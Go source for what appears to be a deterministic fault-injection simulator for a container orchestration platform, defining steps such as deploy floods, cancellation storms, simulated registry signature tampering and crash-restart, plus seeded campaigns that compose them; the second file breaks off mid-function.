		return deployOne(w, orchestrator.WorkloadSpec{
			Name: w.NextWorkloadName(), Tenant: tenant, ImageRef: ref,
			Isolation: iso, Resources: res,
		})
	}}
}

// DeployPolicy is Deploy with an explicit placement policy; the
// placement-policy-respected invariant audits that the cluster honoured
// it.
func DeployPolicy(tenant, ref string, iso orchestrator.IsolationMode, res orchestrator.Resources, policy string) Step {
	label := policy
	if label == "" {
		label = "default"
	}
	return Step{Name: "deploy-" + label, Run: func(w *World) Outcome {
		return deployOne(w, orchestrator.WorkloadSpec{
			Name: w.NextWorkloadName(), Tenant: tenant, ImageRef: ref,
			Isolation: iso, Resources: res, PlacementPolicy: policy,
		})
	}}
}

// DeployRegion is Deploy with an explicit region constraint on the
// spec: the federation router must place it in a matching-region member
// (or reject it outright), and the no-cross-region-leak invariant holds
// the platform to that after every subsequent step.
func DeployRegion(tenant, ref string, iso orchestrator.IsolationMode, res orchestrator.Resources, region string) Step {
	return Step{Name: "deploy-region", Run: func(w *World) Outcome {
		return deployOne(w, orchestrator.WorkloadSpec{
			Name: w.NextWorkloadName(), Tenant: tenant, ImageRef: ref,
			Isolation: iso, Resources: res, Region: region,
		})
	}}
}

// JoinFedNode provisions a fresh edge node into a named federation
// member (JoinNode targets the default cluster). Node names come from
// the same platform-global sequence; requires Scenario.Federation.
func JoinFedNode(cluster string, capacity orchestrator.Resources) Step {
	return Step{Name: "node-join", Run: func(w *World) Outcome {
		name := w.NextNodeName()
		if _, err := w.Platform.AddEdgeNodeIn(cluster, name, capacity); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("join %s in %s: %v", name, cluster, err)}
		}
		w.Live[name] = true
		return okf("node %s joined cluster %s (cpu=%dm mem=%dMB)",
			name, cluster, capacity.CPUMilli, capacity.MemoryMB)
	}}
}

// EvacuateClusterStep kills a federation member mid-run: the member is
// detached (no placement may land afterwards), every workload it held is
// re-placed through the ring into surviving eligible members — honouring
// pins and region constraints — and its nodes die with it. Losses are
// first-class observations; the region-leak, quota, and accounting
// invariants audit the aftermath. Requires Scenario.Federation (and the
// platform refuses to evacuate its default member).
func EvacuateClusterStep(name string) Step {
	return Step{Name: "cluster-evacuate", Run: func(w *World) Outcome {
		victim, err := w.Platform.ClusterByName(name)
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("evacuate %s: %v", name, err)}
		}
		nodes := victim.Nodes()
		res, err := w.Platform.EvacuateCluster(Subject, name)
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("evacuate %s: %v", name, err)}
		}
		// The member's nodes leave the fleet with it.
		for _, n := range nodes {
			delete(w.Live, n)
			delete(w.Cordoned, n)
		}
		return Outcome{Status: "evacuated", Detail: fmt.Sprintf(
			"cluster %s down: %d nodes gone, %d workloads moved, %d lost",
			name, len(nodes), len(res.Moved), len(res.Lost))}
	}}
}

func deployOne(w *World, spec orchestrator.WorkloadSpec) Outcome {
	w.policies[spec.Name] = spec.PlacementPolicy
	wl, err := w.Platform.Deploy(Subject, spec)
	status, class, contentDetermined := classifyDeploy(err)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	if err != nil {
		return Outcome{Status: status, Detail: fmt.Sprintf("%s (%s): %v", spec.Name, spec.ImageRef, err)}
	}
	if wl.Strategy == "warm" {
		// A warm-slot claim skipped scheduling entirely; surface it so
		// campaign reports (and their byte-identical determinism check)
		// pin exactly which deploys took the fast path.
		return Outcome{Status: status, Detail: fmt.Sprintf("%s (%s) placed warm", spec.Name, spec.ImageRef)}
	}
	return Outcome{Status: status, Detail: fmt.Sprintf("%s (%s) placed", spec.Name, spec.ImageRef)}
}

// classifyDeploy maps a Deploy error to a report status and, for verdicts
// that depend only on image content (admission chain, signature
// verification), a class string for the determinism invariant.
// Spec-dependent rejections — quota, capacity, duplicate name, RBAC — are
// legitimate sources of divergence between deploys of the same image, so
// they do not participate.
func classifyDeploy(err error) (status, class string, contentDetermined bool) {
	switch {
	case err == nil:
		return "admitted", "admitted", true
	case errors.Is(err, orchestrator.ErrDenied):
		return "denied", err.Error(), true
	case errors.Is(err, container.ErrUnsigned), errors.Is(err, container.ErrBadSignature),
		errors.Is(err, container.ErrNotFound):
		return "pull-failed", err.Error(), true
	case errors.Is(err, orchestrator.ErrCancelled):
		return "cancelled", "", false
	case errors.Is(err, federation.ErrRegionPinned):
		// A residency rejection depends on the tenant's pin and the
		// requested region, not on image content.
		return "region-pinned", "", false
	case errors.Is(err, orchestrator.ErrQuotaExceeded):
		return "quota-exceeded", "", false
	case errors.Is(err, orchestrator.ErrNoCapacity):
		return "no-capacity", "", false
	case errors.Is(err, orchestrator.ErrDuplicateName):
		return "duplicate", "", false
	case errors.Is(err, orchestrator.ErrUnauthorized):
		return "unauthorized", "", false
	default:
		return "error", "", false
	}
}

// AdmissionFlood fires n auto-named deployments drawn randomly from refs,
// modelling a burst of tenant CI traffic (including hostile images).
func AdmissionFlood(n int, tenant string, res orchestrator.Resources, refs ...string) Step {
	return Step{Name: "admission-flood", Run: func(w *World) Outcome {
		counts := map[string]int{}
		for i := 0; i < n; i++ {
			out := deployOne(w, orchestrator.WorkloadSpec{
				Name: w.NextWorkloadName(), Tenant: tenant,
				ImageRef:  refs[w.Rand.Intn(len(refs))],
				Isolation: orchestrator.IsolationSoft, Resources: res,
			})
			counts[out.Status]++
		}
		keys := make([]string, 0, len(counts))
		for k := range counts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		detail := fmt.Sprintf("%d deploys:", n)
		for _, k := range keys {
			detail += fmt.Sprintf(" %s=%d", k, counts[k])
		}
		return okf("%s", detail)
	}}
}

// CancelStorm fires n asynchronous deployments (DeployAsync futures) for
// tenant, cancelling a seeded subset mid-scan: armed deployments are
// held open by the sim-cancel-gate admission controller until their
// context dies, so the cancellation deterministically races — and always
// beats — placement. The rest run to their natural terminal state. The
// cancelled-never-placed and lifecycle-ledger invariants audit the
// aftermath after every step.
func CancelStorm(n int, tenant string, res orchestrator.Resources, refs ...string) Step {
	if len(refs) == 0 {
		refs = []string{CleanImageRef}
	}
	return Step{Name: "cancel-storm", Run: func(w *World) Outcome {
		counts := map[string]int{}
		cancelledNow := 0
		for i := 0; i < n; i++ {
			spec := orchestrator.WorkloadSpec{
				Name: w.NextWorkloadName(), Tenant: tenant,
				ImageRef:  refs[w.Rand.Intn(len(refs))],
				Isolation: orchestrator.IsolationSoft, Resources: res,
			}
			// A seeded coin decides who gets cancelled; the draw happens
			// before the deploy so the schedule is replayable.
			doCancel := w.Rand.Intn(2) == 0
			var status string
			if doCancel {
				status = w.cancelOne(spec)
				cancelledNow++
			} else {
				status = w.asyncOne(spec)
			}
			counts[status]++
			w.Clock.Advance(5)
		}
		keys := make([]string, 0, len(counts))
		for k := range counts {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		detail := fmt.Sprintf("%d async deploys (%d cancel attempts):", n, cancelledNow)
		for _, k := range keys {
			detail += fmt.Sprintf(" %s=%d", k, counts[k])
		}
		return okf("%s", detail)
	}}
}

// cancelOne runs one armed deployment: wait for the scanning state (the
// gate is now holding it open), cancel, and wait for the terminal event.
func (w *World) cancelOne(spec orchestrator.WorkloadSpec) string {
	w.markCancelTarget(spec.Name)
	defer w.clearCancelTarget(spec.Name)
	scanning := make(chan struct{})
	d, err := w.Platform.DeployAsync(context.Background(), Subject, spec,
		core.WithOnTransition(func(ev core.LifecycleEvent) {
			if ev.State == core.StateScanning {
				close(scanning)
			}
		}))
	if err != nil {
		return "error"
	}
	select {
	case <-scanning:
	case <-d.Done(): // refused before scanning (RBAC, closed platform)
	}
	d.Cancel()
	<-d.Done()
	_, derr := d.Result()
	status, class, contentDetermined := classifyDeploy(derr)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	if status == "cancelled" {
		w.cancelled[spec.Name] = true
	}
	w.asyncDone[spec.Name] = true
	return status
}

// asyncOne runs one un-armed deployment through the future surface to
// its natural terminal state.
func (w *World) asyncOne(spec orchestrator.WorkloadSpec) string {
	d, err := w.Platform.DeployAsync(context.Background(), Subject, spec)
	if err != nil {
		return "error"
	}
	_, derr := d.Result()
	status, class, contentDetermined := classifyDeploy(derr)
	if contentDetermined {
		w.recordVerdict(spec.ImageRef, class)
	}
	w.asyncDone[spec.Name] = true
	return status
}

// TamperSignature re-pushes an image with a forged signature, modelling a
// registry compromise: subsequent verified pulls of the ref must fail.
func TamperSignature(ref string) Step {
	return Step{Name: "registry-tamper", Run: func(w *World) Outcome {
		img, err := w.Platform.Registry.Pull(ref)
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("tamper %s: %v", ref, err)}
		}
		forged := container.Signature{Publisher: PublisherName, Digest: img.Digest(), Sig: []byte("forged")}
		w.Platform.Registry.Push(img, &forged)
		// The image's content-determined verdict legitimately changes when
		// its registry entry is tampered with; reset the baseline.
		delete(w.verdicts, ref)
		return okf("signature on %s forged", ref)
	}}
}

// RestoreSignature re-signs a (previously tampered) ref with the trusted
// simulation publisher, modelling registry recovery.
func RestoreSignature(ref string) Step {
	return Step{Name: "registry-restore", Run: func(w *World) Outcome {
		img, err := w.Platform.Registry.Pull(ref)
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("restore %s: %v", ref, err)}
		}
		if w.publisher == nil {
			return Outcome{Status: "error", Detail: "no simulation publisher"}
		}
		sig := w.publisher.Sign(img)
		w.Platform.Registry.Push(img, &sig)
		delete(w.verdicts, ref)
		return okf("signature on %s restored", ref)
	}}
}

// ScannerSlowdown registers an extra admission controller that consumes
// delayMs of virtual time on every deployment, modelling a degraded
// scanner backend. The delay is visible in placement and incident
// timestamps; verdicts are unaffected.
func ScannerSlowdown(delayMs int64) Step {
	return Step{Name: "scanner-slowdown", Run: func(w *World) Outcome {
		clk := w.Clock
		w.Platform.Cluster.RegisterAdmission("sim-slow-scanner", func(orchestrator.WorkloadSpec, *container.Image) error {
			clk.Advance(delayMs)
			return nil
		})
		return okf("admission now costs +%dms per deploy", delayMs)
	}}
}

// IncidentStorm replays a bursty mixed benign/malicious event stream over
// the currently deployed workloads through sandbox enforcement and falco
// detection.
func IncidentStorm(bursts int, attackRatio float64, tenant string) Step {
	return Step{Name: "incident-storm", Run: func(w *World) Outcome {
		workloads := w.DeployedWorkloads()
		if len(workloads) == 0 {
			return okf("no workloads to storm")
		}
		events, malicious := trace.RandomStorm(w.Rand, workloads, tenant, bursts, attackRatio)
		executed := w.Platform.ObserveRuntime(events)
		w.Clock.Advance(int64(len(events))) // 1ms of virtual time per event
		return okf("%d bursts (%d malicious), %d/%d events executed",
			bursts, malicious, executed, len(events))
	}}
}

// ONUChurn activates count far-edge ONUs on a random live node and
// rotates the PON keys afterwards, exercising M3/M4 under fleet churn.
func ONUChurn(count int) Step {
	return Step{Name: "onu-churn", Run: func(w *World) Outcome {
		live := w.LiveNodes()
		if len(live) == 0 {
			return okf("no live nodes for onu churn")
		}
		node := live[w.Rand.Intn(len(live))]
		attached := 0
		for i := 0; i < count; i++ {
			if _, err := w.Platform.AttachONU(node, w.NextONUSerial()); err != nil {
				return Outcome{Status: "error", Detail: fmt.Sprintf("attach on %s: %v", node, err)}
			}
			attached++
		}
		n, err := w.Platform.Node(node)
		if err != nil {
			return Outcome{Status: "error", Detail: err.Error()}
		}
		if err := n.OLT.RotateKeys(); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("rotate on %s: %v", node, err)}
		}
		return okf("%d onus attached to %s, keys rotated", attached, node)
	}}
}

// MetricBurst publishes n synthetic metric events straight onto the
// platform spine across keys — telemetry pressure without security
// semantics, exercising the backpressure policy and the per-topic
// accounting the no-silent-event-drops invariant audits.
func MetricBurst(n int) Step {
	return Step{Name: "metric-burst", Run: func(w *World) Outcome {
		for i := 0; i < n; i++ {
			err := w.Platform.PublishEvent(events.Event{
				Topic: events.TopicMetric, Key: fmt.Sprintf("probe-%d", i%8),
				Payload: events.Metric{Name: "sim.pulse", Value: float64(i), Label: "storm"},
			})
			if err != nil {
				return Outcome{Status: "error", Detail: fmt.Sprintf("publish %d/%d: %v", i, n, err)}
			}
			w.offeredEvents[string(events.TopicMetric)]++
		}
		w.Clock.Advance(int64(n) / 4) // telemetry is cheap but not free
		return okf("%d metric events published", n)
	}}
}

// SetQuota pins a tenant quota (and registers it with the
// oversubscription invariant). Quotas are per-cluster state, so under
// federation the quota is mirrored to every member — the invariant then
// demands it per member.
func SetQuota(tenant string, q orchestrator.Resources) Step {
	return Step{Name: "set-quota", Run: func(w *World) Outcome {
		for _, c := range w.Clusters() {
			c.SetQuota(tenant, q)
		}
		w.Quotas[tenant] = q
		return okf("quota %s = cpu %dm, mem %dMB", tenant, q.CPUMilli, q.MemoryMB)
	}}
}

// StopWorkload stops a random running workload (tenant scale-down).
func StopWorkload() Step {
	return Step{Name: "workload-stop", Run: func(w *World) Outcome {
		names := w.DeployedWorkloads()
		if len(names) == 0 {
			return okf("no workloads to stop")
		}
		name := names[w.Rand.Intn(len(names))]
		if err := w.Platform.Cluster.Stop(name); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("stop %s: %v", name, err)}
		}
		return okf("workload %s stopped", name)
	}}
}

// StopNewestWorkload stops the most recently deployed workload
// (deterministic: workload names are zero-padded, so the lexicographic
// maximum is the newest). A hard-isolation workload is its VM's sole
// occupant, so stopping it parks the VM as a warm slot — pairing this
// with a follow-up Deploy of the same spec exercises the warm claim
// fast path regardless of the seed.
func StopNewestWorkload() Step {
	return Step{Name: "workload-stop-newest", Run: func(w *World) Outcome {
		names := w.DeployedWorkloads()
		if len(names) == 0 {
			return okf("no workloads to stop")
		}
		sort.Strings(names)
		name := names[len(names)-1]
		if err := w.Platform.Cluster.Stop(name); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("stop %s: %v", name, err)}
		}
		return okf("workload %s stopped", name)
	}}
}

// AdvanceClock moves virtual time forward (quiet period).
func AdvanceClock(ms int64) Step {
	return Step{Name: "clock-advance", Run: func(w *World) Outcome {
		return okf("t=%dms", w.Clock.Advance(ms))
	}}
}

// KillRestart crashes the platform the way kill -9 would — flush-only
// store close, no shutdown snapshot — and rebuilds it from the scenario's
// data directory. The step fingerprints the durable control-plane state
// (cluster export + incident ledger) on both sides of the crash; any
// divergence is handed to the recovery-exact invariant. Requires
// Scenario.Persist.
func KillRestart() Step {
	return Step{Name: "kill-restart", Run: func(w *World) Outcome {
		if w.rebuild == nil {
			return Outcome{Status: "error", Detail: "kill-restart requires Scenario.Persist"}
		}
		w.Platform.Flush()
		before, err := w.stateFingerprint()
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("fingerprint: %v", err)}
		}
		w.Platform.Crash()
		if err := w.rebuild(); err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("restart: %v", err)}
		}
		after, err := w.stateFingerprint()
		if err != nil {
			return Outcome{Status: "error", Detail: fmt.Sprintf("fingerprint: %v", err)}
		}
		if before != after {
			w.recoveryDiffs = append(w.recoveryDiffs, fmt.Sprintf(
				"state diverged across kill-restart:\n pre-crash: %s\n recovered: %s", before, after))
		}
		// Reconcile the witnesses with the fresh process: recovered
		// incidents entered the log at recovery (never spine-delivered, so
		// the new subscription starts that far behind by construction) and
		// the spine's per-topic ledger restarted at zero, so the script's
		// offered-events floor restarts with it.
		w.seenIncidents.Store(int64(len(w.Platform.Incidents())))
		w.offeredEvents = make(map[string]uint64)
		return Outcome{Status: "recovered", Detail: fmt.Sprintf(
			"%d nodes, %d workloads, %d incidents recovered",
			len(w.Platform.Cluster.Nodes()), len(w.Platform.Cluster.Workloads()),
			len(w.Platform.Incidents()))}
	}}
}
