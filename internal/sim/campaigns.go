package sim

// Named campaigns: seeded generators that compose the fault injectors
// into the dependability scenarios the paper's platform must survive.
// The structure of a campaign (which faults, in which order, how hard)
// is itself drawn from the seed, so `-seed N` explores a different but
// perfectly replayable storm.

import (
	"fmt"
	"math/rand"
	"sort"

	"genio/internal/core"
	"genio/internal/orchestrator"
)

// Standard shapes used across campaigns.
var (
	nodeCapacity = orchestrator.Resources{CPUMilli: 4000, MemoryMB: 8192}
	smallDemand  = orchestrator.Resources{CPUMilli: 500, MemoryMB: 512}
	largeDemand  = orchestrator.Resources{CPUMilli: 1500, MemoryMB: 2048}
)

// allImageRefs is the flood mix: clean, vulnerable, malicious, unsigned.
var allImageRefs = []string{
	CleanImageRef, SASTFlaggedImageRef, VulnImageRef, MalwareImageRef, UnsignedImageRef,
}

// CampaignFunc builds a scenario from a seed.
type CampaignFunc func(seed int64) Scenario

var campaigns = map[string]CampaignFunc{
	"churn":             ChurnCampaign,
	"admission-flood":   AdmissionFloodCampaign,
	"failover-storm":    FailoverStormCampaign,
	"incident-storm":    IncidentStormCampaign,
	"event-storm":       EventStormCampaign,
	"cancel-storm":      CancelStormCampaign,
	"hotspot":           HotspotCampaign,
	"drain-storm":       DrainStormCampaign,
	"deploy-storm":      DeployStormCampaign,
	"wire-deploy-storm": WireDeployStormCampaign,
	"kill-restart":      KillRestartCampaign,
	"region-outage":     RegionOutageCampaign,
}

// CampaignNames lists the registered campaigns, sorted.
func CampaignNames() []string {
	out := make([]string, 0, len(campaigns))
	for n := range campaigns {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// NewCampaign builds the named campaign for a seed.
func NewCampaign(name string, seed int64) (Scenario, error) {
	f, ok := campaigns[name]
	if !ok {
		return Scenario{}, fmt.Errorf("sim: unknown campaign %q (have %v)", name, CampaignNames())
	}
	return f(seed), nil
}

// ChurnCampaign models fleet churn: nodes joining and crashing while
// tenant deploys, far-edge onboarding, and scale-downs keep arriving.
func ChurnCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 8000, MemoryMB: 16384}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("acme", SASTFlaggedImageRef, orchestrator.IsolationHard, smallDemand),
		ONUChurn(3),
	}
	for i := 0; i < 14; i++ {
		switch r.Intn(6) {
		case 0:
			steps = append(steps, JoinNode(nodeCapacity))
		case 1:
			steps = append(steps, CrashRandomNode())
		case 2:
			steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand))
		case 3:
			steps = append(steps, ONUChurn(1+r.Intn(3)))
		case 4:
			steps = append(steps, StopWorkload())
		default:
			steps = append(steps, AdvanceClock(250))
		}
	}
	steps = append(steps, IncidentStorm(6, 0.3, "acme"))
	return Scenario{Name: "churn", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// AdmissionFloodCampaign models bursty CI traffic pushing clean,
// vulnerable, malicious, and unsigned images through admission — with a
// mid-flood scanner slowdown and a registry signature compromise.
func AdmissionFloodCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		JoinNode(orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
		JoinNode(orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
		SetQuota("acme", orchestrator.Resources{CPUMilli: 12000, MemoryMB: 24576}),
		SetQuota("burst", orchestrator.Resources{CPUMilli: 2000, MemoryMB: 2048}),
		AdmissionFlood(15+r.Intn(10), "acme", smallDemand, allImageRefs...),
		ScannerSlowdown(50),
		AdmissionFlood(10+r.Intn(10), "burst", smallDemand, allImageRefs...),
		TamperSignature(CleanImageRef),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		RestoreSignature(CleanImageRef),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		AdmissionFlood(10, "acme", smallDemand, CleanImageRef, SASTFlaggedImageRef),
	}
	return Scenario{Name: "admission-flood", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// FailoverStormCampaign models a failover cascade: a well-packed fleet
// loses most of its nodes one after another (rescheduling until capacity
// runs out and evictions begin), then recovers and re-admits.
func FailoverStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 20000, MemoryMB: 40960}),
	}
	for i := 0; i < 5; i++ {
		steps = append(steps, JoinNode(nodeCapacity))
	}
	for i := 0; i < 8; i++ {
		iso := orchestrator.IsolationSoft
		if r.Intn(3) == 0 {
			iso = orchestrator.IsolationHard
		}
		steps = append(steps, Deploy("acme", CleanImageRef, iso, largeDemand))
	}
	// The storm: crash nodes back to back, with traffic still arriving —
	// admissible images contend for the shrinking capacity, flagged ones
	// keep the gates busy.
	for i := 0; i < 4; i++ {
		ref := CleanImageRef
		if i%2 == 1 {
			ref = SASTFlaggedImageRef
		}
		steps = append(steps,
			CrashRandomNode(),
			Deploy("acme", ref, orchestrator.IsolationSoft, smallDemand),
		)
	}
	steps = append(steps,
		IncidentStorm(4, 0.5, "acme"),
		// Recovery: fresh nodes join and evicted demand is re-admitted.
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, largeDemand),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		ONUChurn(2),
	)
	return Scenario{Name: "failover-storm", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// EventStormCampaign hammers the event spine itself: every topic at
// once — incident storms (incident + falco.alert), deploy/stop churn
// (audit + metric), and raw metric bursts — under the Block policy. The
// no-silent-event-drops invariant must find the ledger balanced and the
// drop counters at zero after every step; the drop-policy half of that
// invariant is exercised by the engine tests, where nondeterministic
// drop counts cannot leak into a replayable report.
func EventStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
		Deploy("acme", SASTFlaggedImageRef, orchestrator.IsolationHard, smallDemand),
	}
	for wave := 0; wave < 6; wave++ {
		steps = append(steps,
			IncidentStorm(3+r.Intn(4), 0.2+0.1*float64(wave), "acme"),
			MetricBurst(40+r.Intn(60)),
		)
		switch r.Intn(3) {
		case 0:
			steps = append(steps, Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand))
		case 1:
			steps = append(steps, StopWorkload())
		default:
			steps = append(steps, CrashRandomNode(), JoinNode(nodeCapacity))
		}
		steps = append(steps, AdvanceClock(100))
	}
	steps = append(steps, MetricBurst(200))
	return Scenario{Name: "event-storm", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// CancelStormCampaign models API-v2 cancellation pressure: waves of
// asynchronous deployments with seeded cancellations landing mid-scan
// (via the deterministic sim-cancel-gate), interleaved with node churn
// and ordinary traffic. The cancelled-never-placed and lifecycle-ledger
// invariants must hold after every step: no cancelled future is ever in
// the cluster, and every completed future has exactly one terminal
// deploy.lifecycle event.
func CancelStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 16000, MemoryMB: 32768}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand),
	}
	for wave := 0; wave < 5; wave++ {
		steps = append(steps, CancelStorm(4+r.Intn(4), "acme", smallDemand,
			CleanImageRef, SASTFlaggedImageRef, MalwareImageRef))
		switch r.Intn(3) {
		case 0:
			steps = append(steps, CrashRandomNode(), JoinNode(nodeCapacity))
		case 1:
			steps = append(steps, Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand))
		default:
			steps = append(steps, AdvanceClock(200))
		}
	}
	// A final dense wave plus a quiet period for the ledger to settle.
	steps = append(steps,
		CancelStorm(6, "acme", smallDemand, CleanImageRef, UnsignedImageRef),
		AdvanceClock(250),
	)
	return Scenario{Name: "cancel-storm", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// HotspotCampaign is the placement-policy showcase on a 4-node fleet:
// a binpack wave (the density default) concentrates onto one node, a
// spread wave fans across the fleet — the two PlacementSpreadReport
// snapshots in the report make the difference measurable — then mixed
// policy traffic under churn keeps the placement-policy-respected
// invariant honest.
func HotspotCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 24000, MemoryMB: 49152}),
	}
	for i := 0; i < 4; i++ {
		steps = append(steps, JoinNode(nodeCapacity))
	}
	// Phase 1: binpack (cluster default) — hotspot by design.
	for i := 0; i < 6; i++ {
		steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand))
	}
	steps = append(steps, PlacementSpreadReport(), AdvanceClock(100))
	// Phase 2: spread — same fleet, opposite distribution.
	for i := 0; i < 6; i++ {
		steps = append(steps, DeployPolicy("acme", CleanImageRef, orchestrator.IsolationSoft,
			smallDemand, orchestrator.PlacementSpread))
	}
	steps = append(steps, PlacementSpreadReport())
	// Phase 3: mixed policy traffic under churn and cordon pressure.
	for i := 0; i < 10; i++ {
		switch r.Intn(5) {
		case 0:
			steps = append(steps, DeployPolicy("acme", CleanImageRef, orchestrator.IsolationHard,
				smallDemand, orchestrator.PlacementSpread))
		case 1:
			steps = append(steps, Deploy("acme", allImageRefs[r.Intn(len(allImageRefs))],
				orchestrator.IsolationSoft, smallDemand))
		case 2:
			steps = append(steps, CordonRandomNode())
		case 3:
			steps = append(steps, UncordonRandomNode())
		default:
			steps = append(steps, StopWorkload())
		}
	}
	steps = append(steps, PlacementSpreadReport())
	return Scenario{Name: "hotspot", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// DrainStormCampaign hammers the node lifecycle: a loaded fleet suffers
// waves of cordons, drains (some cancelled mid-migration, some blocked
// on capacity), crashes of drained-and-forgotten nodes, and fresh
// joins — while the no-drain-leaks-capacity invariant recomputes the
// whole accounting surface after every step.
func DrainStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 24000, MemoryMB: 49152}),
	}
	for i := 0; i < 5; i++ {
		steps = append(steps, JoinNode(nodeCapacity))
	}
	for i := 0; i < 8; i++ {
		policy := ""
		if i%2 == 0 {
			policy = orchestrator.PlacementSpread
		}
		steps = append(steps, DeployPolicy("acme", CleanImageRef, orchestrator.IsolationSoft,
			smallDemand, policy))
	}
	for wave := 0; wave < 8; wave++ {
		switch r.Intn(6) {
		case 0:
			steps = append(steps, DrainRandomNode(-1)) // run to completion
		case 1:
			steps = append(steps, DrainRandomNode(1+r.Intn(2))) // cancel mid-migration
		case 2:
			steps = append(steps, CordonRandomNode())
		case 3:
			steps = append(steps, UncordonRandomNode())
		case 4:
			steps = append(steps, CrashRandomNode(), JoinNode(nodeCapacity))
		default:
			steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationSoft, smallDemand))
		}
		steps = append(steps, AdvanceClock(50))
	}
	steps = append(steps, PlacementSpreadReport())
	return Scenario{Name: "drain-storm", Seed: seed, Config: core.SecureConfig(), Steps: steps}
}

// DeployStormCampaign is the warm-pool storm: repeat-deploy churn on a
// platform running with the warm-slot runtime pool enabled (tight
// watermarks, so parking triggers pressure evictions), interleaved with
// stops (which park slots), node crashes, drains, and cordon flips
// (which flush them), and a kill-restart leg (after which the pool must
// be cold — warm slots are deliberately not persisted). The
// warm-slots-never-leak invariant recomputes the full slot accounting
// after every step: every slot idle on exactly one live uncordoned
// node, claimed by exactly one live workload, or gone; and
// no-drain-leaks-capacity folds the idle reservations into its per-node
// usage recompute.
func DeployStormCampaign(seed int64) Scenario {
	r := rand.New(rand.NewSource(seed))
	cfg := core.SecureConfig()
	cfg.ClusterSettings.WarmPoolEnabled = true
	cfg.ClusterSettings.WarmPoolHighWatermarkPct = 70
	cfg.ClusterSettings.WarmPoolLowWatermarkPct = 40
	steps := []Step{
		SetQuota("acme", orchestrator.Resources{CPUMilli: 24000, MemoryMB: 49152}),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
		JoinNode(nodeCapacity),
	}
	// Seed the pool. Hard isolation matters here: a dedicated VM is its
	// workload's sole occupant, so every stop parks it warm — soft
	// workloads share VMs under binpack and rarely park. Six deploys
	// binpack one node to 75%, just over the 70% high watermark: the
	// first park is immediately watermark-evicted (deterministic
	// slot.evict coverage), dropping the node to 62.5%, under the
	// watermark — so the next three parks are guaranteed to stick.
	for i := 0; i < 6; i++ {
		steps = append(steps, Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand))
	}
	for i := 0; i < 4; i++ {
		steps = append(steps, StopNewestWorkload())
	}
	// Deterministic repeat-deploy pair: the slots just parked are
	// reclaimed here whatever the seed, so every run exercises the warm
	// claim fast path at least twice.
	steps = append(steps,
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
		Deploy("acme", CleanImageRef, orchestrator.IsolationHard, smallDemand),
	)
	// Deterministic flush: utilization is still well under the high
	// watermark here, so the third parked slot is guaranteed idle —
	// draining its node must discard it (slot.flush) before the drain's
	// migration accounting balances.
	steps = append(steps, DrainWarmestNode(-1))
	// The storm: repeat deploys of the pooled image (warm claims), more
	// stop/deploy churn (parks racing claims), shared-VM soft traffic
	// alongside, and the full lifecycle pressure set.
	for wave := 0; wave < 16; wave++ {
		switch r.Intn(9) {
		case 0, 1, 2:
